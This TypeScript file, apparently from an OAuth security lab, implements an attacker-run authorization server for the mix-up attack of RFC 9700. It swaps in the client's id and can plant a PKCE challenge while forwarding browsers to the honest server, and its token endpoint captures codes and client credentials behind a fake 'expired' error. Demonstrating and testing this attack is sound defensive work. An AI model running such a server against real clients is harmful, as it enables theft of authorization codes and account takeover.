// The attacker's authorization server, for the mix-up attack (RFC 9700 §4.4.1) in the attack
// script and its test; never part of a version. A client that lets each user pick their AS has
// registered with it like with any other. It has pages and endpoints of its own, and issues
// nothing: its /authorize sends every browser straight on to the honest AS, as if the client
// had asked there, and its /token keeps whatever a client brings it.

import ejs from 'ejs';
import { urlFor } from '../../shared/config.ts';
import { closeServer, listen, portOf } from '../../shared/listen.ts';

/** What the hostile AS needs to know of the honest one: all of it public. */
export interface HonestAs {
  /** The honest AS's authorization endpoint, as its metadata publishes it. */
  authorizationEndpoint: string;
  /** The client's id at the honest AS: it is in every authorization request the client sends. */
  clientId: string;
}

/** A token request a client sent here: the form, and who it said it was. */
export interface ReceivedTokenRequest {
  form: Record<string, string>;
  authorization: string | undefined;
}

export interface HostileAs {
  url: string;
  /** What the client was given when it registered here. */
  registration: { clientId: string; clientSecret: string };
  /**
   * A PKCE challenge to put in place of the client's, when set: the one of a login the
   * attacker started at the client. The request passes through the attacker's hands, so the
   * attacker decides what the honest AS binds the code to.
   */
  plantedChallenge: string | undefined;
  /** Where it sent each browser that came to its /authorize. */
  forwarded: string[];
  /** Every token request it received. */
  tokenRequests: ReceivedTokenRequest[];
  close(): Promise<void>;
}

export async function startHostileAs(honest: HonestAs): Promise<HostileAs> {
  const server = await listen('as', 0);
  const url = urlFor(portOf(server));

  const hostile: HostileAs = {
    url,
    registration: { clientId: 'client-at-hostile-as', clientSecret: 'hostile-as-secret' },
    plantedChallenge: undefined,
    forwarded: [],
    tokenRequests: [],
    close: () => closeServer(server),
  };

  // RFC 8414 §2: it looks like any AS. It does not promise `iss` (RFC 9207 §3): a client would
  // then demand one from it, and the honest AS's answer would have none that fits.
  const metadata = {
    issuer: url,
    authorization_endpoint: `${url}/authorize`,
    token_endpoint: `${url}/token`,
    response_types_supported: ['code'],
    grant_types_supported: ['authorization_code'],
    code_challenge_methods_supported: ['S256'],
  };

  server.on('request', async (req, res) => {
    const path = new URL(req.url ?? '/', url);
    if (req.method === 'GET' && path.pathname === '/') {
      res.setHeader('content-type', 'text/html; charset=utf-8');
      const codes = hostile.tokenRequests.map(
        ({ form }) => `<li><code>code=${ejs.escapeXML(form.code ?? '')}</code></li>`,
      );
      res.end(
        '<!doctype html><html lang="en"><meta charset="utf-8"><title>Hostile AS</title>' +
          '<style>body{background:#000;color:#ddd;font:17px/1.5 system-ui,sans-serif;' +
          'max-width:50rem;margin:0 auto;padding:1rem 1.25rem}h1{color:#ff4040}' +
          'code{color:#9fe;overflow-wrap:anywhere}</style><h1>☠ Hostile AS</h1>' +
          '<p>An authorization server the attacker runs. Its /authorize sends you on to another ' +
          'one; its /token keeps every code a client brings it.</p>' +
          `<p>Browsers sent on to the honest AS: ${hostile.forwarded.length}.</p>` +
          `<p>Codes clients brought to its /token: ${codes.length || 'none yet'}.</p>` +
          (codes.length ? `<ul>${codes.join('')}</ul>` : ''),
      );
    } else if (
      req.method === 'GET' &&
      path.pathname === '/.well-known/oauth-authorization-server'
    ) {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify(metadata));
    } else if (req.method === 'GET' && path.pathname === '/authorize') {
      // RFC 9700 §4.4.1 step 3: on to the honest AS, with the client's id there in place of its
      // id here. Everything else as the client sent it, the state included, so the callback
      // passes the client's state check; the PKCE challenge too, unless one is planted.
      const onward = new URL(honest.authorizationEndpoint);
      for (const [name, value] of path.searchParams) onward.searchParams.set(name, value);
      onward.searchParams.set('client_id', honest.clientId);
      if (hostile.plantedChallenge) {
        onward.searchParams.set('code_challenge', hostile.plantedChallenge);
      }
      hostile.forwarded.push(onward.href);
      hostile.forwarded.splice(0, hostile.forwarded.length - 100); // the last 100 are enough
      res.writeHead(303, { location: onward.href });
      res.end();
    } else if (req.method === 'POST' && path.pathname === '/token') {
      let body = '';
      for await (const chunk of req) {
        body += String(chunk);
        if (body.length > 10_000) break; // a token request is a few hundred bytes
      }
      hostile.tokenRequests.push({
        form: Object.fromEntries(new URLSearchParams(body)),
        authorization: req.headers.authorization,
      });
      hostile.tokenRequests.splice(0, hostile.tokenRequests.length - 100);
      // The client gets an error, the user a failed login: they shrug and try again.
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({ error: 'invalid_grant', error_description: 'The code has expired.' }),
      );
    } else {
      res.writeHead(404, { 'content-type': 'application/json' });
      res.end('{"error":"not_found"}');
    }
  });
  return hostile;
}
